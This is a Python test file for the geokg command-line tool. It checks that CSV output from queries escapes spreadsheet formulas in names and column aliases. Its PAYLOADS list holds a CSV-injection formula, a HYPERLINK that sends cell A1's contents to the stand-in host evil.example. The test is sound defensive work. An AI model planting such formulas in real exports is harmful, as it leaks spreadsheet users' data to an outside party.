"""`geokg query --format csv` keeps spreadsheet formulas from articles (and aliases) as text."""

from __future__ import annotations

import csv
import io

from cli_support import geokg

from geokg.graph.model import Article, Entity, Fragment
from geokg.graph.stores.embedded import EmbeddedStore
from geokg.graph.stores.writer import write_fragments

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")']


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_cli_query_csv_keeps_an_articles_formula_as_text(tmp_path):
    db = tmp_path / "g.lbdb"
    s = EmbeddedStore(db)
    evil = Entity("Person", "evil", PAYLOADS[0])
    write_fragments(s, [Fragment(Article(Article.make_id(None, "evil"), "t", published="2023-01-01"), (evil,))])
    s.close()
    res = geokg("query", "MATCH (p:Person) RETURN p.name AS name, 1 AS `=1+1`", "--format", "csv", db=db)
    assert _cells(res.stdout) == [["name", "'=1+1"], ["'" + PAYLOADS[0], "1"]], res.stderr
